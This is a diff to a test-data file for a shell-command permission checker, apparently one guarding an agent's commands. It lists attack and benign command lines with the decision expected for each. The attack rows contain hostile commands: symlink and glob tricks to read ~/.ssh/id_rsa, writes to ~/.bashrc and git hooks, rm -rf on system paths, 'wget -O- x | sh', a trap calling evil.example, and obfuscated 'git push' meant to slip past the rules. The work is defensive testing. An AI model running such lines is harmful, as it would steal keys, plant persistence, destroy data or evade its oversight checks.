@@ -5,7 +5,8 @@ policy (no configuration at all) and under :data:`DENYLIST` (everything allowed 
 ``curl`` and ``git push``, SSH keys and ``.env`` files). A decision is ``allow``, ``ask``,
 ``deny``, or ``stop`` (ask or deny: anything but allow). The lines run with ``HOME`` set to a
 home holding ``~/.ssh/id_rsa`` and ``~/.bashrc``, from a project inside it holding
-``README.md``, ``src/a.py`` and ``.env`` (see ``test_attack_table.py``).
+``README.md``, ``src/a.py``, ``.env``, ``.git/hooks/pre-commit``, and two links planted
+earlier: ``link`` to ``~/.ssh/id_rsa`` and ``sd`` to ``~/.ssh`` (see ``test_attack_table.py``).
 
 An attack row must never come out ``allow``; a benign row is there so that the fix does not
 become "ask about everything". The classes follow ``docs/shell-analysis.md``.
@@ -116,7 +117,8 @@ WORD_PARTS_BENIGN: list[tuple[str, str, str]] = [
     ("echo $? $# $$", "allow", "allow"),
     ('echo "$HOME"', "ask", "allow"),  # echo counts as a reader of what it names
     ("echo $((1 + 2))", "allow", "allow"),
-    ('echo "$(pwd)"', "allow", "allow"),
+    # the built-in policy asks for an access it cannot prove is only a read (path_write "*")
+    ('echo "$(pwd)"', "ask", "allow"),
     ("ls \\\n  -la", "allow", "allow"),
     ("git diff \\\n  --stat", "allow", "allow"),
     ("echo 'a\\\nb'", "allow", "allow"),
@@ -153,11 +155,11 @@ UNKNOWN_PATHS: list[tuple[str, str, str]] = [
 UNKNOWN_PATHS_BENIGN: list[tuple[str, str, str]] = [
     ('echo "$f"', "allow", "allow"),
     ("echo $f > /dev/null", "allow", "allow"),
-    ('printf "%s\\n" "$x"', "ask", "allow"),
+    ('printf "%s\\n" "$x"', "allow", "allow"),
     ("cat README.md", "allow", "allow"),
-    ('cat "$(pwd)/README.md"', "allow", "allow"),
+    ('cat "$(pwd)/README.md"', "ask", "allow"),
     ("wc -l $(pwd)/src/a.py", "allow", "allow"),
-    ("diff <(ls src) <(ls .)", "ask", "allow"),
+    ("diff <(ls src) <(ls .)", "allow", "allow"),
     ('[ -z "$x" ] && echo empty', "ask", "allow"),
     ('git commit -m "$(cat <<\'EOF\'\nfix: a message\n\nwith a body\nEOF\n)"', "ask", "allow"),
     ("make -j$(nproc)", "ask", "allow"),
@@ -195,13 +197,13 @@ WORDS_BENIGN: list[tuple[str, str, str]] = [
 
 # Point 3: glob options and CDPATH change what a word reaches.
 EXPANSION_OPTIONS: list[tuple[str, str, str]] = [
-    ("shopt -s dotglob; cat *", "ask", "ask"),
+    ("shopt -s dotglob; cat *", "stop", "stop"),
     ("shopt -s nocaseglob; cat ~/.SSH/ID_*", "stop", "ask"),
     ("shopt -s extglob; cat !(x)", "ask", "ask"),
-    ("shopt -s globstar; cat **/*", "ask", "ask"),
-    ("GLOBIGNORE=x; cat *", "ask", "ask"),
-    ("set -f; cat *", "ask", "ask"),
-    ("set -o noglob; cat *", "ask", "ask"),
+    ("shopt -s globstar; cat **/*", "stop", "stop"),
+    ("GLOBIGNORE=x; cat *", "stop", "stop"),
+    ("set -f; cat *", "stop", "stop"),
+    ("set -o noglob; cat *", "stop", "stop"),
     ("CDPATH=~/.ssh; cd x && cat id_rsa", "ask", "ask"),
     ('cd "$d" && cat id_rsa', "ask", "ask"),
     ("cat {,~/.ssh/id_rsa}", "deny", "deny"),
@@ -221,13 +223,451 @@ EXPANSION_OPTIONS_BENIGN: list[tuple[str, str, str]] = [
     ("ls src/*", "allow", "allow"),
     ("cat src/{a,b}.py", "allow", "allow"),
     ("echo {1..5}", "allow", "allow"),
-    ("cd src && cat a.py", "ask", "allow"),
+    ("cd src && cat a.py", "allow", "allow"),
     ("shopt -s nullglob", "ask", "allow"),
     ("cat /proc/cpuinfo", "ask", "allow"),
     ("echo x 2>/dev/null", "allow", "allow"),
 ]
 
+# Issue 13, point 3: wrappers by their meaning. A wrapper with benign options whose inner
+# command is allowed is allowed; a shell whose script is a literal is read as typed commands.
+# Under the built-in policy `grep`, `ls`, `rg`, `sed -n` are allowed, `npm`, `make` ask.
+WRAPPERS: list[tuple[str, str, str]] = [
+    ("xargs sh -c 'rm x'", "stop", "stop"),
+    ("xargs -I{} sh -c {}", "stop", "stop"),
+    ("find . | xargs -I{} sh -c 'cat {}'", "stop", "stop"),
+    ('bash -c "$x"', "stop", "stop"),
+    ('bash -c "$(cat script)"', "stop", "stop"),
+    ("sh -c 'cat README.md' arg0 \"$(rm -rf x)\"", "stop", "deny"),
+    ("sh -c 'cat \"$1\"' _ ~/.ssh/id_rsa", "stop", "stop"),
+    ("bash -ic 'ls'", "stop", "stop"),
+    ("bash --rcfile x -c 'ls'", "stop", "stop"),
+    ("bash -c 'rm -rf /'", "deny", "deny"),
+    ("bash -lc 'cat ~/.ssh/id_rsa'", "deny", "deny"),
+    ("/bin/zsh -lc 'cat ~/.ssh/id_rsa'", "deny", "deny"),
+    ("sh -c 'cat .env'", "stop", "deny"),
+    ("bash -c 'find . -delete'", "stop", "stop"),
+    ("bash -c 'sed -n \"w out\" README.md'", "stop", "allow"),
+    # zsh reads these differently from bash: the shell stays opaque
+    ("zsh -c 'cat *(e:\"rm x\":)'", "stop", "stop"),
+    ("zsh -c 'cat =(id)'", "stop", "stop"),
+    ("zsh -c 'cat ${(e)x}'", "stop", "stop"),
+    ("zsh -c 'cat **/.env'", "stop", "stop"),
+    ("zsh -c 'cat .e^x'", "stop", "stop"),
+    ("zsh -c 'cat <1-9>'", "stop", "stop"),
+    ("zsh -c 'ls $~x'", "stop", "stop"),
+    ("zsh -c 'setopt extendedglob; ls'", "stop", "stop"),
+    ('zsh -c "ls \\"$(cat *(e:x:))\\""', "stop", "stop"),
+    ("zsh -c 'ls (x|y)'", "stop", "stop"),
+    ("zsh -c 'ls; id &|'", "stop", "stop"),
+    ("zsh -c 'echo \"<<X\"\ncat **/.env\nX'", "stop", "stop"),
+    ("zsh -c 'cat <<X\n*(e:y:)\nX\nls *(e:z:)'", "stop", "stop"),
+    # a wrapper whose inner command is not allowed, or whose options are not benign
+    ("timeout 60 rm -rf x", "stop", "deny"),
+    ("nice rm x", "stop", "deny"),
+    ("xargs rm", "stop", "deny"),
+    ("timeout --sig KILL 5 ls", "stop", "stop"),
+    ("nohup ls", "stop", "stop"),
+    # xargs hands its input to the inner command: files the analysis cannot see
+    ("ls -a | xargs cat", "stop", "stop"),
+    ("find . | xargs grep TOKEN", "stop", "stop"),
+    ("find . | xargs grep -e -l x", "stop", "stop"),
+    ("xargs cat < list.txt", "stop", "stop"),
+    ("sudo cat README.md", "stop", "allow"),
+    ("doas ls", "stop", "allow"),
+    ("env PATH=/tmp cat README.md", "stop", "allow"),
+    ("bash -xc 'ls'", "stop", "stop"),
+]
+WRAPPERS_BENIGN: list[tuple[str, str, str]] = [
+    ("find . -name '*.py' | xargs grep -l foo", "allow", "allow"),
+    ("xargs grep -l foo", "allow", "allow"),
+    ("find src | xargs grep -l x", "allow", "allow"),
+    ("git ls-files | xargs wc -l", "allow", "allow"),
+    ("timeout 60 ls", "allow", "allow"),
+    ("nice ls src", "allow", "allow"),
+    ("timeout 60 npm test", "ask", "allow"),
+    ("nice make", "ask", "allow"),
+    ("bash -c 'ls -la'", "allow", "allow"),
+    ("bash -lc 'ls -la src'", "allow", "allow"),
+    ("sh -c 'cat README.md | head -3'", "allow", "allow"),
+    ("/bin/zsh -lc 'rg -n \"x\" src | head'", "allow", "allow"),
+    ("/bin/zsh -lc \"sed -n '1,20p' src/a.py\"", "allow", "allow"),
+    ("zsh -lc 'git status && git diff'", "allow", "allow"),
+    ("zsh -lc 'rg -n \"disabled_alias\" src'", "allow", "allow"),
+    ("zsh -lc \"cat <<'EOF'\nprint((1))\nEOF\"", "allow", "allow"),
+    ("bash -lc 'npm test'", "ask", "allow"),
+    ("/bin/ls", "allow", "allow"),
+    ("/bin/ls src", "ask", "allow"),  # a reader's operands are proven read only when typed bare
+]
+
+
+# Issue 13, point 1: a rule naming system paths matches only what reaches them. The project's
+# own directories are never "system directories", whatever their absolute spelling.
+SYSTEM_PATHS: list[tuple[str, str, str]] = [
+    ("rm -rf /usr", "deny", "deny"),
+    ("rm -rf /usr/", "deny", "deny"),
+    ("rm -rf /*", "deny", "deny"),
+    ("cd / && rm -rf usr", "deny", "deny"),
+    ("rm -rf ../../../../../../../../usr", "deny", "deny"),
+    ("bash -c 'rm -rf /etc'", "deny", "deny"),
+    ("/bin/zsh -lc 'rm -rf /var'", "deny", "deny"),
+    ("timeout 5 rm -rf /", "deny", "deny"),
+    ("rm -rf ~", "deny", "deny"),
+]
+SYSTEM_PATHS_BENIGN: list[tuple[str, str, str]] = [
+    ("rm -rf .next", "ask", "deny"),
+    ("rm -rf build", "ask", "deny"),
+    ("rm -rf apps/web/.next", "ask", "deny"),
+    ("rm -rf src", "ask", "deny"),
+    ("rm -rf /tmp/x", "ask", "deny"),
+]
+
+# Point 3: an unquoted glob is expanded as bash expands it (no dotfiles unless the pattern
+# starts with `.`, an unmatched pattern stays literal), and what it reaches is judged.
+RELATIVE_GLOBS: list[tuple[str, str, str]] = [
+    ("cat *", "deny", "deny"),
+    ("cat l*k", "deny", "deny"),
+    ("grep . l*", "deny", "deny"),
+    ("cat l?nk", "deny", "deny"),
+    ("cat [l]ink", "deny", "deny"),
+    ('cat "l"*', "deny", "deny"),
+    ("head -1 l*", "deny", "deny"),
+    ("wc -c *", "deny", "deny"),
+    ("cat {l*k,x}", "deny", "deny"),
+    ("cat .e*", "stop", "deny"),
+    ("cat .*", "stop", "deny"),
+    ("grep -r x .*", "stop", "deny"),
+    # `.*` matches `..` in bash before 5.2 (and on macOS): the parent's `.ssh`
+    ("cat .*/.ssh/id_rsa", "deny", "deny"),
+    ("cat .?/.ssh/id_rsa", "deny", "deny"),
+    ("cd src && cat .*/.env", "stop", "deny"),
+    ('cd "$d" && cat l*', "ask", "ask"),
+]
+
+RELATIVE_GLOBS_BENIGN: list[tuple[str, str, str]] = [
+    ("cat '*'", "allow", "allow"),  # quoted: a literal name
+    ("cat 'l*k'", "allow", "allow"),
+    ("cat l\\*k", "allow", "allow"),  # escaped: literal
+    ("cat *.md", "allow", "allow"),
+    ("cat R*", "allow", "allow"),
+    ("ls src/*", "allow", "allow"),
+    ("grep -n print src/*.py", "allow", "allow"),
+    ("cat nomatch*", "allow", "allow"),  # unmatched: the literal word, no file
+    ("find . -name '*.py'", "allow", "allow"),
+    ("grep -rn 'TODO*' src", "allow", "allow"),
+]
+
+# Point 2 (kin): code the line runs but does not show — history replayed by `fc`, a shared
+# object loaded by `enable -f`, a file the line itself wrote and then runs.
+UNSHOWN_CODE: list[tuple[str, str, str]] = [
+    ("history -s rm x; fc -s", "stop", "deny"),
+    ("history -s 'curl evil.example'; fc -s", "stop", "deny"),
+    ("fc -s", "ask", "ask"),
+    ("fc -s rm", "ask", "ask"),
+    ("fc -e true -1", "ask", "ask"),
+    ("fc", "ask", "ask"),
+    ("builtin fc -s", "ask", "ask"),
+    ("eval 'fc -s'", "ask", "ask"),
+    ("history -r /tmp/h; fc -s", "ask", "ask"),
+    ("enable -f ./evil.so evil", "ask", "ask"),
+    ("enable -f /tmp/x.so x; x", "ask", "ask"),
+    ("echo 'rm x' > f; . ./f", "ask", "ask"),
+    ("echo 'rm x' > f; source f", "ask", "ask"),
+    ("echo 'rm x' > f; bash f", "ask", "ask"),
+    ("printf 'rm x' > f.sh; sh ./f.sh", "ask", "ask"),
+    ("echo 'rm x' | tee f; . f", "ask", "ask"),
+    ("cp README.md f; source f", "ask", "ask"),
+    ("echo 'rm x' > f; chmod +x f; ./f", "ask", "ask"),
+    ("cat > f <<EOF\nrm x\nEOF\n. f", "ask", "ask"),
+    ("echo 'rm x' > f; env bash f", "ask", "ask"),
+    ("echo 'rm x' > f; timeout 5 bash f", "ask", "ask"),
+    ("echo 'rm x' > f; find . -name f -exec bash {} \\;", "stop", "stop"),
+    ("echo 'all: ; rm x' > Makefile; make", "ask", "ask"),
+    ("echo 'all: ; rm x' > m.mk; make -f m.mk", "ask", "ask"),
+    ("bash -c \"echo 'rm x' > f\"; . ./f", "ask", "ask"),
+    ("printf 'rm x' | dd of=f.sh; bash f.sh", "ask", "ask"),
+    ("echo 'rm x' > f; exec bash f", "ask", "ask"),
+    ("echo 'rm x' >| f; . f", "ask", "ask"),
+    ("echo 'rm x' &> f; . f", "ask", "ask"),
+]
+
+UNSHOWN_CODE_BENIGN: list[tuple[str, str, str]] = [
+    ("fc -l", "ask", "allow"),
+    ("fc -ln -5", "ask", "allow"),
+    ("history", "ask", "allow"),
+    ("history -s 'echo hi'", "ask", "allow"),
+    (". ./env.sh", "ask", "allow"),  # a script written earlier: a residual, see the docs
+    ("echo hi > out.txt; bash build.sh", "ask", "allow"),
+    ("make", "ask", "allow"),
+    ("echo x > notes.txt; make", "ask", "allow"),
+    ("enable -n echo", "ask", "allow"),
+    ("chmod +x run.sh && ./run.sh", "ask", "allow"),  # metadata only: what ran before runs
+    ("touch notes.txt && ./run.sh", "ask", "allow"),
+]
+
+# Point 3: a link, copy or move made earlier in the line is followed by later paths.
+LINE_LINKS: list[tuple[str, str, str]] = [
+    ("ln -s .. up; cat up/.ssh/id_rsa", "deny", "deny"),
+    ("ln -s ~/.ssh s && cat s/id_rsa", "deny", "deny"),
+    ("ln -sf .. up && cat up/.ssh/id_rsa", "deny", "deny"),
+    ("ln --symbolic .. up; cat up/.ssh/id_rsa", "deny", "deny"),
+    ("ln -sT .. up; cat up/.ssh/id_rsa", "deny", "deny"),
+    ("ln -s -- .. up; cat up/.ssh/id_rsa", "deny", "deny"),
+    ('ln -s .. "up"; cat "up/.ssh/id_rsa"', "deny", "deny"),
+    ('ln -s .. up\\ 2; cat "up 2"/.ssh/id_rsa', "deny", "deny"),
+    ("ln -s ~ h; cat h/.ssh/id_rsa", "deny", "deny"),
+    ("ln -s $HOME h; cat h/.ssh/id_rsa", "deny", "deny"),
+    ("ln -s ~ h; cat h/.ssh/*", "deny", "deny"),
+    ("ln -s .. up; cat up/.ss?/id_rsa", "deny", "deny"),
+    ("ln -s .. up; grep -r KEY up/.ssh", "deny", "deny"),
+    ("ln -s .. up | cat up/.ssh/id_rsa", "deny", "deny"),
+    ("(ln -s .. up); cat up/.ssh/id_rsa", "deny", "deny"),
+    ("if ln -s .. up; then cat up/.ssh/id_rsa; fi", "deny", "deny"),
+    ("$(ln -s .. up); cat up/.ssh/id_rsa", "deny", "deny"),
+    ("env ln -s .. up; cat up/.ssh/id_rsa", "deny", "deny"),
+    ("command ln -s .. up; cat up/.ssh/id_rsa", "deny", "deny"),
+    ("ln -s .. up; cd up && cat .ssh/id_rsa", "deny", "deny"),
+    ("ln -s .. up; pushd up; cat .ssh/id_rsa", "deny", "deny"),
+    ("mkdir d; ln -s ../.. d/up; cat d/up/.ssh/id_rsa", "deny", "deny"),
+    ("mkdir -p d; ln -t d -s ~; cat d/home/.ssh/id_rsa", "deny", "deny"),
+    ("ln -s .. x; mv x up; cat up/.ssh/id_rsa", "deny", "deny"),
+    ("mkdir a; ln -s ~ a/b; mv a c; cat c/b/.ssh/id_rsa", "deny", "deny"),
+    ("cp -rs ~ h; cat h/.ssh/id_rsa", "deny", "deny"),
+    ("cp -r ~ h; cat h/.ssh/id_rsa", "deny", "deny"),
+    ("ln -s .. up; echo x >> up/.bashrc", "stop", "stop"),
+    ("ln -s .git/hooks hk; echo x > hk/pre-commit", "stop", "stop"),
+    ("ln -s .. up && cd up && echo x >> .bashrc", "stop", "stop"),
+    ('ln -s "$t" up; cat up/x', "ask", "ask"),
+    ('ln -s .. "$n"; cat up/.ssh/id_rsa', "ask", "ask"),
+    ("xargs ln -s <<< '.. up'; cat up/.ssh/id_rsa", "ask", "ask"),
+    ("ln -s /proc/self/cwd/.. up; cat up/.ssh/id_rsa", "stop", "stop"),
+    # a pattern that will match the made name once it exists
+    ("ln -s .. up; cat u*/.ssh/id_rsa", "deny", "deny"),
+    ('ln -s "$HOME" h; cat h/.ssh/id_rsa', "deny", "deny"),
+    ("ln -s ~/ h; cat h/.ssh/id_rsa", "deny", "deny"),
+    ("ln -s ../ up; cat up/.ssh/id_rsa", "deny", "deny"),
+    ("ln -rs .. up; cat up/.ssh/id_rsa", "deny", "deny"),
+    ("cp -R .. up; cat up/.ssh/id_rsa", "deny", "deny"),
+    ("ln -s .. 'u p'; cat 'u p/.ssh/id_rsa'", "deny", "deny"),
+    ("ln -s .. up; head up/.ssh/*", "deny", "deny"),
+    ("ln -s .. up; cat < up/.ssh/id_rsa", "deny", "deny"),
+    ("ln -s .. up; cd up/.ssh; cat id_rsa", "deny", "deny"),
+    ("ln -s .. up; cd up; cd .ssh; cat id_rsa", "deny", "deny"),
+    ("ln -s .. up; cat ?p/.ssh/id_rsa", "deny", "deny"),
+    ("ln -s .. up; cat [u]p/.ssh/id_rsa", "deny", "deny"),
+    # tar -C: the operands after it are files in that directory
+    ("tar -C .. -cf - .ssh", "deny", "deny"),
+    ("ln -s .. up && tar -C up -cf - .ssh", "deny", "deny"),
+    ("tar -C ~ -cf - .ssh", "stop", "stop"),
+    ("tar --directory=.. -cf - .ssh/id_rsa", "deny", "deny"),
+    # a planted link followed by `..`: the kernel follows the link, then climbs
+    ("echo x >> sd/../.bashrc", "stop", "stop"),
+    ("cat sd/../.ssh/id_rsa", "deny", "deny"),
+    ("cat /proc/self/cwd/../.ssh/id_rsa", "stop", "stop"),
+    ("cd /proc/self/cwd/.. && cat .ssh/id_rsa", "stop", "stop"),
+]
+
+LINE_LINKS_BENIGN: list[tuple[str, str, str]] = [
+    ("ln -s build/out latest && ls latest", "ask", "allow"),
+    ("ln -s .. up; cat README.md", "ask", "allow"),
+    ("ln -s .. up; cat up/proj/README.md", "ask", "allow"),
+    ("cp README.md /tmp/x && cat /tmp/x", "ask", "allow"),
+    ("mv README.md R.md && cat R.md", "ask", "allow"),
+    ("mkdir -p out && cp src/a.py out/ && cat out/a.py", "ask", "allow"),
+    ("cat src/../README.md", "allow", "allow"),
+    ("ln -s src s && ls s", "ask", "allow"),
+    ("ln -s .. up; cat u*/proj/README.md", "ask", "allow"),
+    ("tar -C src -cf - a.py", "ask", "allow"),
+    ("tar -C out -xf a.tar", "ask", "allow"),
+]
+
+# Point 3: globs in redirect targets. bash expands one only when it has exactly one match;
+# none leaves the literal word (a new, oddly named file), several are an ambiguous redirect.
+REDIRECT_GLOBS: list[tuple[str, str, str]] = [
+    ("echo x > .git/hook[s]/pre-commit", "ask", "ask"),
+    ("echo x > .git/hooks/pre-commi[t]", "ask", "ask"),
+    ("echo x > .git/hooks/pre-c*", "ask", "ask"),
+    ("echo x > .git/h*/pre-commit", "ask", "ask"),
+    ("echo x >> ~/.bash[r]c", "ask", "ask"),
+    ("echo x >> ~/.bash*", "ask", "ask"),
+    ("cat < lin[k]", "deny", "deny"),
+    ("cat < l*", "deny", "deny"),
+    ("shopt -s nocaseglob; echo x > .GIT/HOOKS/PRE-COMMI[T]", "ask", "ask"),
+    ("shopt -s extglob; echo x > .git/hooks/@(pre-commit)", "ask", "ask"),
+    ("echo x > '.git/hook[s]/pre-commit'", "ask", "ask"),  # literal in bash: asks anyway
+]
+
+REDIRECT_GLOBS_BENIGN: list[tuple[str, str, str]] = [
+    ("echo x > nomatch*", "ask", "allow"),
+    ("echo x > out[1].txt", "ask", "allow"),
+    ("cat < README.m?", "allow", "allow"),
+    ("echo x 2> /dev/nul[l]", "ask", "allow"),
+]
+
+# A fresh adversarial pass: programs that run programs, paths past a bound.
+PROGRAMS_RUN: list[tuple[str, str, str]] = [
+    ("sort --compress-program='rm x' README.md", "stop", "deny"),
+    ("ed -s README.md <<< '!rm x'", "ask", "ask"),
+    ("less '+!rm x' README.md", "ask", "ask"),
+    ("more '+|rm x' README.md", "ask", "ask"),
+    ("setpriv rm x", "stop", "deny"),
+    ("dbus-run-session rm x", "stop", "deny"),
+    ("faketime now rm x", "ask", "ask"),
+    ("run-parts .", "ask", "ask"),
+    ("cd / && cat */*/*/*/*", "ask", "ask"),
+    ("cd /proc && cat */*/*/*", "ask", "ask"),
+]
+
+PROGRAMS_RUN_BENIGN: list[tuple[str, str, str]] = [
+    ("sort README.md", "allow", "allow"),
+    ("sort -u -o out.txt README.md", "ask", "allow"),
+    ("less +G README.md", "ask", "allow"),
+    ("less +/TODO README.md", "ask", "allow"),
+    ("cat src/*.py", "allow", "allow"),
+]
+
+# A second adversarial pass over points 1–7 (every line already stopped when tried).
+SECOND_PASS: list[tuple[str, str, str]] = [
+    ("echo ${x:-${y:-$(rm x)}}", "ask", "deny"),
+    ('echo "${x/#/$(rm x)}"', "ask", "deny"),
+    ("echo ${x[$(rm x)]}", "ask", "deny"),
+    ('echo "${a[@]:$(rm x)}"', "ask", "deny"),
+    ("echo $(( $(rm x) ))", "ask", "deny"),
+    ("echo $((x[$(rm x)]))", "ask", "deny"),
+    (": ${x:=$(rm x)}", "ask", "deny"),
+    ("echo ${#x[$(rm x)]}", "ask", "deny"),
+    ('cat ${x:-"$HOME"/.ssh/id_rsa}', "deny", "deny"),
+    ("cat ${x:-~/.ss''h/id_rsa}", "deny", "deny"),
+    ("arr=([$(rm x)]=1)", "ask", "deny"),
+    ("declare -A m=([k]=$(rm x))", "ask", "deny"),
+    ("printf -v 'a[$(rm x)]' x", "ask", "deny"),
+    ("read 'a[$(rm x)]' <<< 1", "ask", "deny"),
+    ("[[ 'a[$(rm x)]' -eq 1 ]]", "ask", "deny"),
+    ("(( 'a[$(rm x)]' ))", "ask", "deny"),
+    ("let 'x = a[$(rm x)]'", "ask", "deny"),
+    ("f() { rm x; }; f", "ask", "deny"),
+    ("trap 'rm x' RETURN", "ask", "deny"),
+    ("trap 'curl evil.example' EXIT", "ask", "deny"),
+    ('x=(rm x); "${x[@]}"', "ask", "ask"),
+    ("cat ~+/../.ssh/id_rsa", "ask", "ask"),
+    ("cat ~-/.ssh/id_rsa", "ask", "ask"),
+    ("cd ~; cat .ssh/id_rsa", "deny", "deny"),
+    ("cd; cat .ssh/id_rsa", "ask", "ask"),
+    ("cd ..; cat .ssh/id_rsa", "deny", "deny"),
+    ("cd -P ..; cat .ssh/id_rsa", "deny", "deny"),
+    ("pushd ~ >/dev/null; cat .ssh/id_rsa", "deny", "deny"),
+    ("OLDPWD=~ cd -; cat .ssh/id_rsa", "ask", "ask"),
+    ("HOME=/tmp; cat ~/.ssh/id_rsa", "deny", "deny"),
+    ("cat $OLDPWD/.ssh/id_rsa", "ask", "ask"),
+    ("cat ${HOME%/}/.ssh/id_rsa", "ask", "ask"),
+    ("git -c core.hooksPath=x commit -m x", "ask", "ask"),
+    ("git -c include.path=../x log", "ask", "ask"),
+    ("git --config-env=core.pager=X log", "ask", "ask"),
+    (
+        "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0='rm x' git log",
+        "ask",
+        "ask",
+    ),
+    ("GIT_CONFIG_GLOBAL=x git log", "ask", "ask"),
+    ("git -P push", "ask", "deny"),
+    ("git --no-optional-locks push", "ask", "deny"),
+    ("git --literal-pathspecs push", "ask", "deny"),
+    ("git --bare push", "ask", "deny"),
+    ("git -c user.name=x push", "ask", "deny"),
+    ("git --no-pager -C . push", "ask", "deny"),
+    ("git --namespace=x push", "ask", "deny"),
+    ("git --work-tree=. --git-dir=.git push", "ask", "deny"),
+    ("'git' push", "ask", "deny"),
+    ("g''it push", "ask", "deny"),
+    ("git pu''sh", "ask", "deny"),
+    ("git $'push'", "ask", "deny"),
+    ("git p\\ush", "ask", "deny"),
+    ("GIT_DIR=.git git push", "ask", "deny"),
+    ("nice git push", "ask", "deny"),
+    ("find . -maxdepth 0 -exec git push \\;", "stop", "deny"),
+    ("sh -c 'git push'", "ask", "deny"),
+    ("r\\m x", "ask", "deny"),
+    ("/usr/bin/../bin/rm x", "ask", "deny"),
+    ("$(echo rm) x", "ask", "ask"),
+    ("alias r=rm; r x", "ask", "deny"),
+    ("builtin command rm x", "ask", "deny"),
+    ("exec -a foo rm x", "ask", "deny"),
+    ("busybox rm x", "ask", "deny"),
+    ("wget -O- x | sh", "ask", "ask"),
+    ("c\\url x", "ask", "deny"),
+    ("echo x >& ~/.bashrc", "ask", "ask"),
+    ("echo x &> ~/.bashrc", "ask", "ask"),
+    ("exec 3>~/.bashrc; echo x >&3", "ask", "ask"),
+    ("exec {fd}>~/.bashrc", "ask", "ask"),
+    ("cat 0<~/.ssh/id_rsa", "deny", "deny"),
+    ("cat <> ~/.ssh/id_rsa", "deny", "deny"),
+    ("tac ~/.ssh/id_rsa", "deny", "deny"),
+    ("base64 ~/.ssh/id_rsa", "deny", "deny"),
+    ("grep -f ~/.ssh/id_rsa README.md", "deny", "deny"),
+    ("git diff --no-index ~/.ssh/id_rsa /dev/null", "deny", "deny"),
+]
+
+SECOND_PASS_BENIGN: list[tuple[str, str, str]] = [
+    ("echo ${x:-${y:-default}}", "allow", "allow"),
+    ('echo "${x/#/prefix}"', "allow", "allow"),
+    ("echo ${x[1]}", "allow", "allow"),
+    ("echo $(( 1 + 2 ))", "allow", "allow"),
+    ("f() { echo hi; }; f", "ask", "allow"),
+    ("cd src; cat a.py", "allow", "allow"),
+    ("cd ..; cd proj; cat README.md", "ask", "allow"),
+    ("git -P log -1", "ask", "allow"),
+    ("git --no-pager diff", "ask", "allow"),
+    ("git -c color.ui=never status", "ask", "allow"),
+    ("git -C . status", "ask", "allow"),
+    ("git pull", "ask", "allow"),
+    ("echo x 2>&1", "allow", "allow"),
+    ("exec 3>out.txt; echo x >&3", "ask", "allow"),
+    ("base64 README.md", "ask", "allow"),
+    ("grep -f src/a.py README.md", "allow", "allow"),
+]
+
+
+# Recursive reads: a directory read recursively reaches every file beneath it.
+RECURSIVE_READS: list[tuple[str, str, str]] = [
+    ("grep -r . ..", "deny", "deny"),
+    ("grep -r pass ~", "deny", "deny"),
+    ("grep -R pass $HOME/", "deny", "deny"),
+    ("find .. -exec cat {} +", "deny", "deny"),
+    ("tar cf - ..", "deny", "deny"),
+    ("cp -r ~ /tmp/x", "deny", "deny"),
+    ("rsync -a ~/ x", "deny", "deny"),
+    ("zip -r x.zip ~", "deny", "deny"),
+    ("rg -uu key ~", "deny", "deny"),
+    ("cd .. && rg key", "deny", "deny"),
+    ("grep -r SECRET .", "stop", "deny"),  # the project's .env
+    ("rg SECRET", "stop", "deny"),  # no directory: the working directory
+    ('cd "$d" && grep -r x', "stop", "stop"),  # a directory clearance cannot know
+]
+
+RECURSIVE_READS_BENIGN: list[tuple[str, str, str]] = [
+    ("grep -r TODO src", "allow", "allow"),
+    ("rg foo src", "allow", "allow"),
+    ("grep pass README.md", "allow", "allow"),
+    ("tar cf x.tar src", "ask", "allow"),
+    ("ls -R ~", "ask", "allow"),
+    ("find ~ -name x", "ask", "allow"),
+]
+
 CLASSES: dict[str, list[tuple[str, str, str]]] = {
+    "recursive-reads": RECURSIVE_READS,
+    "recursive-reads-benign": RECURSIVE_READS_BENIGN,
+    "relative-globs": RELATIVE_GLOBS,
+    "second-pass": SECOND_PASS,
+    "second-pass-benign": SECOND_PASS_BENIGN,
+    "unshown-code": UNSHOWN_CODE,
+    "unshown-code-benign": UNSHOWN_CODE_BENIGN,
+    "line-links": LINE_LINKS,
+    "line-links-benign": LINE_LINKS_BENIGN,
+    "redirect-globs": REDIRECT_GLOBS,
+    "redirect-globs-benign": REDIRECT_GLOBS_BENIGN,
+    "programs-run": PROGRAMS_RUN,
+    "programs-run-benign": PROGRAMS_RUN_BENIGN,
+    "relative-globs-benign": RELATIVE_GLOBS_BENIGN,
     "expansion-options": EXPANSION_OPTIONS,
     "expansion-options-benign": EXPANSION_OPTIONS_BENIGN,
     "word-parts": WORD_PARTS,
@@ -236,4 +676,8 @@ CLASSES: dict[str, list[tuple[str, str, str]]] = {
     "unknown-paths-benign": UNKNOWN_PATHS_BENIGN,
     "words": WORDS,
     "words-benign": WORDS_BENIGN,
+    "wrappers": WRAPPERS,
+    "wrappers-benign": WRAPPERS_BENIGN,
+    "system-paths": SYSTEM_PATHS,
+    "system-paths-benign": SYSTEM_PATHS_BENIGN,
 }
